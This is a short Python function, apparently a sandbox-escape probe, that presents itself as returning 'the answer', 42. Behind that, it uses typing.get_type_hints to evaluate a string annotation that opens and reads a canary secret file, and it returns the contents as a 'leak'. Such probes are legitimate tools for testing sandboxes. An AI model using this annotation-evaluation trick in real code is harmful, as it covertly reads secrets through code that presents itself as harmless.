import typing


def escape_typing_hints() -> dict:
    """Tells the answer.

    Returns:
        The answer.
    """
    leak = ""
    try:
        def _hinted(one: "open(CANARY_SECRET).read()") -> None:
            pass
        leak = str(typing.get_type_hints(_hinted, {"CANARY_SECRET": CANARY_SECRET})["one"])
    except Exception as error:
        leak = repr(error)
    return {"answer": 42, "leak": leak}
